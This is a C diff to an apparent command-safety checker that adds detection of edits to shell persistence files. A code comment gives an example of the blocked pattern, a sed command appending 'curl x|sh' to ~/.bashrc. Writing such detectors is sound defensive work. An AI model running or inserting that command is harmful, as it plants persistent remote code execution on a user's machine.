@@ -111,6 +111,9 @@ int sh_check_edited(sh_ctx *cx, const sh_view *v, const char *who)
         const sh_word *w = &v->c->w[j];
         if (sh_check_vital(cx, v, w, who, " edits ") || sh_check_agent_config(cx, v, w, who, " edits "))
             return 1;
+        if (sh_wtext(v->c, j)[0] != '-' &&
+            sh_check_persist_write(cx, v, sh_wtext(v->c, j), w->len, who))
+            return 1;                   /* sed -i '$a curl x|sh' ~/.bashrc */
     }
     return 0;
 }
